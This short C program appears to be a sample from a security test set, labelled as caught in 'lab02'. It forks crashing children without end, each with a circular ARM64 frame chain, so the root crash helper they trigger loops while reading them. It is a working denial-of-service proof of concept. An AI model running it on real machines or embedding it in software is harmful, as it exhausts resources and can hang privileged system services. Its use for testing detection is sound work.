/* SPDX-License-Identifier: MIT */
/*
 * in lab02, caught by: all
 * Children crash, one after the other and with frames that lead in circles: each crash
 * starts a helper of root's, which reads them.
 */
#include <signal.h>
#include <stdint.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void)
{
	static uintptr_t frame[2] __attribute__((aligned(16)));

	frame[0] = frame[1] = (uintptr_t)frame;
	for (;;) {
		if (!fork()) {
			__asm__ volatile("mov x29, %0\n\tudf #0" : : "r"(frame));
		}
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
}
